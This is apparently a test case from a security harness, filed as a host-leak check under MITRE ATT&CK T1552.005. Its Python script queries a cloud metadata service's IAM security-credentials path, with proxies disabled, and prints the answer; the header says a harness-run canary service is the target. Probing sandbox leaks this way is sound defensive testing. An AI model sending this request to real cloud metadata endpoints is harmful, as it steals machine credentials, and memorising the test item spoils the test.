# id: secrets/metadata-service
# class: HostLeak
# title: Ask the cloud's metadata service for keys
# intent: Sends the request that hands out a virtual machine's keys, to a service that the harness runs
# success: What the service answered is in the answer
# source: MITRE ATT&CK T1552.005; CDK, Cloud Provider Metadata API
# evidence: canary-service
# host: safe
import urllib.request

last = None
for address in ADDRESSES:
    try:
        url = f"http://{address}:{PORT}/latest/meta-data/iam/security-credentials/"
        opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
        print(opener.open(url, timeout=2).read().decode())
    except OSError as error:
        last = getattr(error, "reason", error)
stopped(last) if last else finished()
